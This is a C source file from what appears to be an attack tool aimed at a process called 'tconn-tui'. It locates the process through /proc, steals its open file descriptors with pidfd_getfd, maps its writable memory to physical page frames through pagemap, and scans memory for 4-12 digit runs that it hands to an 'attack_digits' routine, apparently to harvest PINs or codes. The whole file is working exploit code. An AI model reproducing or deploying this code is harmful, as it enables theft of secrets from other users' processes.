// SPDX-License-Identifier: Apache-2.0
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "file.h"
#include "process.h"
#include "report.h"

#define RUN_MIN	4
#define RUN_MAX	12

static bool is_named(pid_t pid, const char *name)
{
	char path[64], comm[32];

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	if (file_read(path, comm, sizeof(comm)) <= 0)
		return false;
	comm[strcspn(comm, "\n")] = '\0';
	return !strcmp(comm, name);
}

pid_t process_find(const char *name)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;
	pid_t found = 0;

	while (dir && (entry = readdir(dir))) {
		pid_t pid = (pid_t)atoi(entry->d_name);

		if (pid > found && is_named(pid, name))
			found = pid;
	}
	if (dir)
		closedir(dir);
	return found;
}

pid_t process_wait_tui(void)
{
	pid_t pid;

	do
		pid = process_find("tconn-tui");
	while (!pid && !attack_wait(20));
	return pid;
}

static int copy_fd(pid_t pid, int fd)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	int ret;

	if (pidfd < 0)
		return -errno;
	ret = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
	if (ret < 0)
		ret = -errno;
	close(pidfd);
	return ret;
}

int process_steal_fd(pid_t pid, const char *path)
{
	char link[64], target[256];
	ssize_t len;
	int fd;

	for (fd = 0; fd < 64; fd++) {
		snprintf(link, sizeof(link), "/proc/%d/fd/%d", pid, fd);
		len = readlink(link, target, sizeof(target) - 1);
		if (len < 0 && errno == EACCES)
			return -EACCES;
		if (len < 0)
			continue;
		target[len] = '\0';
		if (!strcmp(target, path))
			return copy_fd(pid, fd);
	}
	return -ENOENT;
}

int process_writable(pid_t pid, process_range_fn fn, void *context)
{
	unsigned long long start, end;
	char path[64], line[512], rights[8], name[256];
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (!maps)
		return -errno;
	while (fgets(line, sizeof(line), maps)) {
		name[0] = '\0';
		if (sscanf(line, "%llx-%llx %7s %*s %*s %*s %255s", &start, &end, rights, name) >= 3 &&
		    !strcmp(rights, "rw-p") && strncmp(name, "/dev/", 5))
			fn(start, end, context);
	}
	fclose(maps);
	return 0;
}

struct pagemap {
	int fd;
	process_page_fn fn;
	void *context;
};

static void translate(uint64_t start, uint64_t end, void *context)
{
	const struct pagemap *m = context;
	uint64_t page, entry;

	for (page = start / PROCESS_PAGE; page < end / PROCESS_PAGE; page++) {
		if (pread(m->fd, &entry, sizeof(entry), (off_t)(page * sizeof(entry))) != sizeof(entry))
			return;
		/* Present; the rest is the frame's number, or zero without CAP_SYS_ADMIN. */
		if (entry >> 63 && entry & ((1ULL << 55) - 1))
			m->fn((entry & ((1ULL << 55) - 1)) * PROCESS_PAGE, m->context);
	}
}

int process_physical_pages(pid_t pid, process_page_fn fn, void *context)
{
	struct pagemap map = { .fn = fn, .context = context };
	char path[64];
	int ret;

	snprintf(path, sizeof(path), "/proc/%d/pagemap", pid);
	map.fd = open(path, O_RDONLY | O_CLOEXEC);
	if (map.fd < 0)
		return -errno;
	ret = process_writable(pid, translate, &map);
	close(map.fd);
	return ret;
}

size_t process_report_digits(const char *memory, size_t size)
{
	size_t at = 0, run, found = 0;
	char digits[RUN_MAX + 1];

	while (at < size) {
		for (run = 0; at + run < size && isdigit((unsigned char)memory[at + run]); run++)
			;
		if (run >= RUN_MIN && run <= RUN_MAX) {
			memcpy(digits, memory + at, run);
			digits[run] = '\0';
			attack_digits(digits);
			found++;
		}
		at += run + 1;
	}
	return found;
}
